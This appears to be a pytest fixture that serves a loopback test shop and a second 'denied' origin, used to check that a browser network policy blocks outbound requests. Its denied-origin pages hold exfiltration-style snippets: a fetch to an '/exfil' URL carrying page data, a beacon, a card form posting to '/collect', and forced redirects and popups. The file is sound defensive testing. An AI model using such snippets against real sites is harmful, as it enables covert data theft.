"""A small multi-page website on 127.0.0.1 for browser tests, plus a second ('denied') origin.

``website.site`` is the allowed shop (forms, JS navigation, redirects, downloads, uploads, cookies,
popups); ``website.other`` is another loopback port the policy does not list: every page that tries
to reach it (sub-resources, iframes, redirects, refreshes, scripts, workers, prefetch, popups, form
posts, WebSockets) is here, and ``website.other.requests`` must stay empty.
"""

from __future__ import annotations

import base64
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest

from .http_server import Handler, Received, TestServer, start_server

__all__ = ["Website", "website"]


@dataclass
class Website:
    site: TestServer
    other: TestServer  # another loopback origin that the policy does not list

    def policy(self, **browser: object) -> dict[str, object]:
        policy: dict[str, object] = {"network": {"allow_hosts": [f"127.0.0.1:{self.site.port}"]}}
        if browser:
            policy["browser"] = browser
        return policy


_PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==")


def _html(title: str, body: str, head: str = "") -> bytes:
    return (
        f"<!doctype html><html><head><meta charset='utf-8'><title>{title}</title>{head}</head><body>{body}</body></html>"
    ).encode()


def _slow_page(site: TestServer) -> Any:
    """A page that takes 0.6 s; ``site.counters["slow_max_in_flight"]`` is how many were served at once."""
    lock = threading.Lock()

    def serve(h: Any, r: Any) -> None:
        with lock:
            site.counters["slow_in_flight"] = site.counters.get("slow_in_flight", 0) + 1
            site.counters["slow_max_in_flight"] = max(site.counters.get("slow_max_in_flight", 0), site.counters["slow_in_flight"])
        try:
            time.sleep(0.6)
            h.send_body(200, _html("Slow", "<h1>Slow</h1>"), "text/html")
        finally:
            with lock:
                site.counters["slow_in_flight"] -= 1

    return serve


def _serve_site(site: TestServer, deny: str) -> None:
    def page(path: str, title: str, body: str, head: str = "") -> None:
        site.routes[path] = lambda h, r: h.send_body(200, _html(title, body, head), "text/html; charset=utf-8")

    # -- pages that work end to end ------------------------------------------------------------------
    page(
        "/",
        "Shop",
        "<h1>Products</h1><ul><li>Widget: $5.00</li><li>Gadget: $7.50</li></ul>"
        "<a id='about' href='/about'>About us</a> <a href='/form'>Contact</a> <a href='/files'>Files</a>",
    )
    page("/about", "About", "<h1>About</h1><p>We sell widgets.</p><a href='/'>Home</a>")
    page(
        "/form",
        "Contact",
        "<h1>Contact</h1><form action='/submit' method='post'>"
        "<label for='name'>Name</label><input id='name' name='name' required>"
        "<input id='email' name='email' type='email' placeholder='Your email'>"
        "<select name='topic'><option>Sales</option><option>Support</option></select>"
        "<input type='password' name='secret' value='hunter2'>"
        "<button type='submit'>Send</button></form>",
    )
    site.routes["/submit"] = lambda h, r: h.send_body(
        200, _html("Thanks", f"<h1>Thanks</h1><p>{r.body.decode()}</p>"), "text/html"
    )
    page(
        "/main",
        "Article",
        "<nav><a href='/'>Home</a> <a href='/about'>About</a></nav>"
        "<main><h1>Article</h1><h2>Section</h2><p>" + "The main text of the article. " * 12 + "</p>"
        "<table><tr><th>Product</th><th>Price</th></tr><tr><td>Widget</td><td>$5.00</td></tr></table>"
        "<p><a href='sub/page?x=1&y=2'>Relative link</a></p></main><footer>Footer links</footer>",
    )
    page("/big", "Big", "<h1>Big</h1>" + "".join(f"<p>Paragraph {i} " + "lorem ipsum " * 20 + "</p>" for i in range(400)))
    page("/js-nav-ok", "JS ok", "<h1>JS ok</h1><button id='go' onclick=\"location='/about'\">Go</button>")
    page(
        "/new-tab",
        "New tab",
        "<h1>New tab</h1><a id='blank' href='/about' target='_blank'>About in a new tab</a>"
        f"<a id='blank-out' href='{deny}/tab' target='_blank'>Outside</a>",
    )
    page(
        "/files",
        "Files",
        "<h1>Files</h1><a id='dl' href='/report.csv' download>Report</a><a id='big' href='/huge.bin' download>Huge</a>",
    )
    site.routes["/report.csv"] = lambda h, r: h.send_body(
        200, b"a,b\n1,2\n", "text/csv", {"Content-Disposition": "attachment; filename=report.csv"}
    )
    site.routes["/huge.bin"] = _huge
    page(
        "/upload",
        "Upload",
        "<h1>Upload</h1><form action='/uploaded' method='post' enctype='multipart/form-data'>"
        "<input id='file' type='file' name='file'><input id='note' name='note'><button>Upload</button></form>",
    )
    site.routes["/uploaded"] = lambda h, r: h.send_body(
        200, _html("Uploaded", f"<h1>Uploaded</h1><p>{len(r.body)} bytes received</p>"), "text/html"
    )
    site.routes["/hang"] = lambda h, r: time.sleep(30)
    site.routes["/slow"] = _slow_page(site)
    page(
        "/reloading",
        "Reloading",
        "<h1>Reloading</h1><p>This page reloads itself every 150 ms.</p>",
        "<script>setTimeout(() => location.reload(), 150)</script>",
    )
    site.routes["/login"] = lambda h, r: h.send_body(
        200, _html("Logged in", "<h1>Welcome</h1>"), "text/html", {"Set-Cookie": "sid=abc123; Path=/; Max-Age=3600"}
    )
    site.routes["/whoami"] = lambda h, r: h.send_body(
        200, _html("Who", f"<h1>cookie={r.headers.get('cookie', 'none')}</h1>"), "text/html"
    )
    page("/storage", "Storage", "<h1>Storage</h1><script>localStorage.setItem('k', 'v1')</script>")
    page(
        "/read-storage",
        "Read",
        "<h1 id='v'></h1><script>document.getElementById('v').textContent = 'storage=' + localStorage.getItem('k')</script>",
    )
    site.routes["/redirect-in"] = lambda h, r: h.redirect("/about")
    # A page with cacheable sub-resources: a second visit is served from the browser's HTTP cache.
    page("/gallery", "Gallery", "<h1>Gallery</h1>" + "".join(f"<img src='/img/{i}.png'>" for i in range(10)))
    for i in range(10):
        site.routes[f"/img/{i}.png"] = lambda h, r: h.send_body(200, _PIXEL, "image/png", {"Cache-Control": "max-age=3600"})

    # -- pages that try to leave for the denied origin --------------------------------------------------
    page(
        "/embeds",
        "Embeds",
        f"<h1>Embeds</h1><img src='{deny}/pixel.png'><iframe src='{deny}/frame'></iframe>"
        f"<script src='{deny}/tracker.js'></script><link rel='stylesheet' href='{deny}/style.css'>"
        "<p>local content</p>",
    )
    page("/js-nav", "JS", f"<h1>JS</h1><button id='go' onclick=\"location='{deny}/stolen'\">Go</button>")
    page("/js-auto", "Auto", f"<h1>Auto</h1><script>setTimeout(() => location = '{deny}/auto', 10)</script>")
    for ms in (0, 5, 20, 50):  # back on the page, it leaves again: races whatever reads it next
        page(f"/js-auto-{ms}", "Auto", f"<h1>Auto</h1><script>setTimeout(() => location = '{deny}/auto-{ms}', {ms})</script>")
    page("/meta", "Meta", "<h1>Meta</h1>", f"<meta http-equiv='refresh' content='0;url={deny}/meta-target'>")
    page("/popup", "Popup", f"<h1>Popup</h1><button id='pop' onclick=\"window.open('{deny}/popup-target')\">Open</button>")
    page("/popup-auto", "Popup auto", f"<h1>Popup auto</h1><script>window.open('{deny}/popup-auto')</script>")
    page("/ws", "WS", f"<h1>WS</h1><script>try {{ new WebSocket('{deny.replace('http', 'ws')}/sock') }} catch (e) {{}}</script>")
    page(
        "/fetch",
        "Fetch",
        f"<h1>Fetch</h1><script>fetch('{deny}/exfil?d=' + document.title).catch(() => 0);"
        f"navigator.sendBeacon('{deny}/beacon', 'x')</script>",
    )
    page(
        "/form-out",
        "Form out",
        f"<h1>Form out</h1><form action='{deny}/collect' method='post'><input id='card' name='card'><button>Pay</button></form>",
    )
    page(
        "/prefetch",
        "Prefetch",
        f"<h1>Prefetch</h1><link rel='prefetch' href='{deny}/prefetch'>"
        f"<link rel='preconnect' href='{deny}'><script type='speculationrules'>"
        f'{{"prefetch": [{{"source": "list", "urls": ["{deny}/spec-prefetch"]}}],'
        f' "prerender": [{{"source": "list", "urls": ["{deny}/spec-prerender"]}}]}}</script>',
    )
    page(
        "/shared-worker",
        "Worker",
        "<h1>Worker</h1><script>try { new SharedWorker('/worker.js') } catch (e) {}"
        "try { new Worker('/worker.js') } catch (e) {}</script>",
    )
    site.routes["/worker.js"] = lambda h, r: h.send_body(
        200, f"fetch('{deny}/from-worker').catch(() => 0)".encode(), "text/javascript"
    )
    page(
        "/service-worker",
        "SW",
        "<h1 id='sw'>pending</h1><script>"
        "(navigator.serviceWorker ? navigator.serviceWorker.register('/sw.js').then(r => r ? 'registered' : 'blocked', "
        "e => 'refused') : Promise.resolve('unavailable')).then(v => document.getElementById('sw').textContent = "
        "'service worker ' + v)</script>",
    )
    site.routes["/sw.js"] = lambda h, r: h.send_body(200, b"self.addEventListener('fetch', () => 0)", "text/javascript")
    site.routes["/redirect-out"] = lambda h, r: h.redirect(f"{deny}/redirected")
    site.routes["/redirect-chain"] = lambda h, r: h.redirect("/redirect-out")
    site.routes["/redirect-https-out"] = lambda h, r: h.redirect(f"{deny.replace('http:', 'https:')}/tls")


def _huge(h: Handler, r: Received) -> None:
    """300 KB, sent slowly enough that a size limit can stop it part-way."""
    h.send_response(200)
    h.send_header("Content-Type", "application/octet-stream")
    h.send_header("Content-Disposition", "attachment; filename=huge.bin")
    h.send_header("Content-Length", str(300_000))
    h.end_headers()
    try:
        for _ in range(30):
            h.wfile.write(b"z" * 10_000)
            h.wfile.flush()
            time.sleep(0.02)
    except (BrokenPipeError, ConnectionResetError):
        pass


@pytest.fixture
def website() -> Iterator[Website]:
    site, h1 = start_server()
    other, h2 = start_server()
    _serve_site(site, other.base)
    yield Website(site, other)
    for httpd in (h1, h2):
        httpd.shutdown()
        httpd.server_close()
